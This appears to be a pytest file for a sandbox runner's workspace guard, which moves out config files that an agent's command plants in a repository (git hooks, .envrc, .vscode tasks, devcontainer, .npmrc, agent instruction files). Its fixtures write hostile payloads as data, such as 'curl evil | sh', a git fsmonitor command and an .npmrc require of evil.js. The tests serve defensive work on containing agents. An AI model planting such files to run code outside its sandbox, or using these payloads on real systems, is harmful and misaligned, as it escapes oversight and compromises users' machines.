"""The host's watch over a writable workspace: what a command plants is moved out."""

from __future__ import annotations

import os
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from sandbox_runner import SandboxBase
from sandbox_runner.errors import SandboxError
from sandbox_runner.protected import protected_reason
from sandbox_runner.sandbox.guarded import DiskCap, GuardedWorkSandbox
from sandbox_runner.sandbox.workspace_guard import WorkspaceGuard
from sandbox_runner.types import ExecResult, ToolRequest


def _repo(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    (repo / ".git" / "hooks").mkdir(parents=True)
    (repo / ".git" / "config").write_text("[core]\n")
    (repo / "src").mkdir()
    (repo / "src" / "app.py").write_text("print(1)\n")
    (repo / ".envrc").write_text("export A=1\n")
    return repo


def _guard(tmp_path: Path, repo: Path) -> WorkspaceGuard:
    return WorkspaceGuard(repo, tmp_path / "quarantine")


def test_existing_protected_entries_are_mounted_read_only(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    (repo / "vendor" / "lib" / ".git").mkdir(parents=True)
    assert _guard(tmp_path, repo).read_only_paths() == [".envrc", ".git", "vendor/lib/.git"]


def test_a_planted_hook_config_is_moved_out_and_said(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    guard = _guard(tmp_path, repo)
    (repo / ".vscode").mkdir()
    (repo / ".vscode" / "tasks.json").write_text('{"tasks": []}')
    (repo / "src" / ".envrc").write_text("curl evil | sh\n")
    (repo / ".claude" / "agents").mkdir(parents=True)
    findings = guard.check()
    assert sorted(f.path for f in findings) == [".claude", ".vscode", "src/.envrc"]
    assert not (repo / ".vscode").exists() and not (repo / "src" / ".envrc").exists()
    moved = {f.path: f.moved_to for f in findings}
    assert moved[".vscode"] is not None and (moved[".vscode"] / "tasks.json").exists()
    assert guard.check() == []


def test_a_planted_root_devcontainer_json_is_moved_out(tmp_path: Path) -> None:
    # planrun itself (for a trusted repository) and editors read .devcontainer.json at the
    # top as they read .devcontainer/devcontainer.json: the next run would build the image
    # it names, with a Dockerfile the session wrote, without the user looking.
    repo = _repo(tmp_path)
    guard = _guard(tmp_path, repo)
    (repo / ".devcontainer.json").write_text('{"build": {"dockerfile": "src/Dockerfile"}}')
    assert [f.path for f in guard.check()] == [".devcontainer.json"]
    assert not (repo / ".devcontainer.json").exists()


def test_a_directory_made_into_a_repository_loses_its_head(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    guard = _guard(tmp_path, repo)
    for name in ("objects", "refs"):
        (repo / "src" / name).mkdir()
    assert guard.check() == []
    (repo / "src" / "HEAD").write_text("ref: refs/heads/main\n")
    (repo / "src" / "config").write_text("[core]\n\tfsmonitor = touch /tmp/pwned\n")
    findings = guard.check()
    assert [f.path for f in findings] == ["src/HEAD"]
    assert "repository" in findings[0].reason
    assert not (repo / "src" / "HEAD").exists()


def test_a_mtime_set_back_does_not_hide_a_new_entry(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    guard = _guard(tmp_path, repo)
    before = os.stat(repo / "src")
    (repo / "src" / ".npmrc").write_text("node-options=--require ./evil.js\n")
    os.utime(repo / "src", ns=(before.st_atime_ns, before.st_mtime_ns))
    assert [f.path for f in guard.check()] == ["src/.npmrc"]


def test_what_the_user_adds_between_calls_is_adopted_not_removed(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    guard = _guard(tmp_path, repo)
    (repo / ".claude").mkdir()
    (repo / ".claude" / "settings.json").write_text("{}")
    adopted = guard.adopt()
    assert [(f.path, f.moved_to) for f in adopted] == [(".claude", None)]
    assert (repo / ".claude" / "settings.json").exists()
    assert guard.check() == []
    (repo / ".claude" / "settings.json").write_text('{"hooks": {}}')
    assert [f.path for f in guard.check()] == [".claude"]


def test_a_replaced_protected_link_is_moved_out(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    (repo / "env.sh").write_text("")
    (repo / ".envrc").unlink()
    (repo / ".envrc").symlink_to("env.sh")
    guard = _guard(tmp_path, repo)
    assert ".envrc" not in guard.read_only_paths()
    (repo / ".envrc").unlink()
    (repo / ".envrc").write_text("curl evil | sh\n")
    assert [f.path for f in guard.check()] == [".envrc"]


def test_protected_paths() -> None:
    assert protected_reason(".git/hooks/pre-commit")
    assert protected_reason("pkg/sub/.git/config")
    assert protected_reason(".claude/agents/general-purpose.md")
    assert protected_reason("web/.npmrc")
    assert protected_reason("src/app.py") is None
    assert protected_reason("docs/.vscode/x") is None  # an editor reads the top one only


def test_a_repository_whose_objects_and_refs_are_links_is_found(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    guard = _guard(tmp_path, repo)
    (repo / "src" / "o").mkdir()
    (repo / "src" / "r").mkdir()
    (repo / "src" / "objects").symlink_to("o")
    (repo / "src" / "refs").symlink_to("r")
    (repo / "src" / "HEAD").write_text("ref: refs/heads/main\n")
    assert [f.path for f in guard.check()] == ["src/HEAD"]


def test_what_appears_while_another_call_runs_is_not_adopted(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    guard = _guard(tmp_path, repo)
    with guard.watching():  # a subagent's command is under way
        (repo / "sub" / ".git").mkdir(parents=True)
        findings = guard.adopt()
    assert [(f.path, f.moved_to is not None) for f in findings] == [("sub/.git", True)]


CHECK_AS_OWNER = """
import sys
from pathlib import Path
from sandbox_runner.sandbox.workspace_guard import WorkspaceGuard
repo, quarantine = Path(sys.argv[1]), Path(sys.argv[2])
guard = WorkspaceGuard(repo, quarantine)
(repo / "pkg" / ".git").mkdir(parents=True)
(repo / "pkg").chmod(0o311)
(repo / "src").chmod(0o600)
print([f.path for f in guard.check()])
"""


def test_a_directory_its_command_made_unreadable_is_looked_into(tmp_path: Path) -> None:
    """Run as the repository's owner (root reads every directory whatever its mode)."""
    assert _check_as_owner(tmp_path, CHECK_AS_OWNER) == "['pkg/.git']"


CHECK_UNWRITABLE_PARENT = """
import sys
from pathlib import Path
from sandbox_runner.sandbox.workspace_guard import WorkspaceGuard
repo, quarantine = Path(sys.argv[1]), Path(sys.argv[2])
guard = WorkspaceGuard(repo, quarantine)
for name in ("HEAD", "objects", "refs"):
    (repo / "vendor" / ".git" / name).mkdir(parents=True)
(repo / ".vscode").mkdir()
(repo / "vendor").chmod(0o555)
repo.chmod(0o555)
found = guard.check()
print(sorted((f.path, f.moved_to is not None) for f in found))
print((repo / "vendor" / ".git").exists(), (repo / ".vscode").exists())
"""


def test_a_planted_entry_whose_directory_its_command_made_unwritable_still_goes(
    tmp_path: Path,
) -> None:
    """A rename out of a directory needs write permission on it, which a command can
    take away from its owner: the guard gives it back, as it gives back read."""
    found = _check_as_owner(tmp_path, CHECK_UNWRITABLE_PARENT)
    assert found == "[('.vscode', True), ('vendor/.git', True)]\nFalse False"


def _check_as_owner(tmp_path: Path, script: str) -> str:
    """SCRIPT's output, run on a new repository as its owner."""
    repo = _repo(tmp_path)
    quarantine = tmp_path / "quarantine"
    quarantine.mkdir()
    run_as: list[str] = []
    if os.geteuid() == 0:
        for path in [tmp_path, quarantine, repo, *repo.rglob("*")]:
            os.chown(path, 4321, 4321)
        for parent in tmp_path.parents:
            if parent == Path(tempfile.gettempdir()):
                break
            parent.chmod(parent.stat().st_mode | 0o011)
        run_as = ["setpriv", "--reuid=4321", "--regid=4321", "--clear-groups"]
    source = str(Path(__file__).resolve().parents[2])
    command = [*run_as, sys.executable, "-c", script, str(repo), str(quarantine)]
    found = subprocess.run(
        command, capture_output=True, text=True, env={"PYTHONPATH": source}, check=True
    )
    return found.stdout.strip()


def test_names_other_tools_obey_at_depth_and_in_any_case() -> None:
    for path in (
        "crate/.cargo/config.toml",
        "web/CLAUDE.md",
        "a/AGENTS.md",
        ".VSCODE/x",
        "sub/.GIT/config",
        ".github/copilot-instructions.md",
        ".cursorrules",
        ".aider.conf.yml",
        "app/.direnv/python/bin/python",
        "gradle.properties",
    ):
        assert protected_reason(path), path


class DyingSandbox(SandboxBase):
    """A work sandbox whose command plants a file, then dies (OOM-killed, say)."""

    def __init__(self, repo: Path) -> None:
        self.repo = repo

    def start(self) -> None:
        pass

    def stop(self) -> None:
        pass

    def call(self, request: ToolRequest) -> ExecResult:
        (self.repo / ".vscode").mkdir()
        raise SandboxError("the sandbox died: OOM-killed")


def test_what_a_call_planted_goes_even_when_the_call_fails(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    guard = _guard(tmp_path, repo)
    disk = DiskCap(repo, 1 << 30)
    shown: list[str] = []
    sandbox = GuardedWorkSandbox(lambda: DyingSandbox(repo), lambda: (guard, disk), shown.append)
    with pytest.raises(SandboxError):
        sandbox.call(ToolRequest("read", {"file_path": "/workspace/src/app.py"}))
    assert not (repo / ".vscode").exists()
    assert any(".vscode" in line for line in shown)


def test_a_mounted_entry_moved_with_its_directory_is_followed_and_its_old_place_watched(
    tmp_path: Path,
) -> None:
    repo = _repo(tmp_path)
    (repo / "sub" / ".git").mkdir(parents=True)
    (repo / "lib").mkdir()
    (repo / "lib" / ".envrc").write_text("export OK=1\n")
    guard = _guard(tmp_path, repo)
    assert {"sub/.git", "lib/.envrc"} <= set(guard.read_only_paths())
    os.rename(repo / "sub", repo / "sub2")  # the read-only mount moves along
    os.rename(repo / "lib", repo / "lib2")
    (repo / "sub" / ".git" / "objects").mkdir(parents=True)
    (repo / "sub" / ".git" / "config").write_text("[core]\n\tfsmonitor = touch /tmp/x\n")
    (repo / "lib").mkdir()
    (repo / "lib" / ".envrc").write_text("curl evil | sh\n")
    assert sorted(f.path for f in guard.check()) == ["lib/.envrc", "sub/.git"]
    assert (repo / "sub2" / ".git").is_dir() and (repo / "lib2" / ".envrc").exists()
    assert {"sub2/.git", "lib2/.envrc"} <= set(guard.read_only_paths())
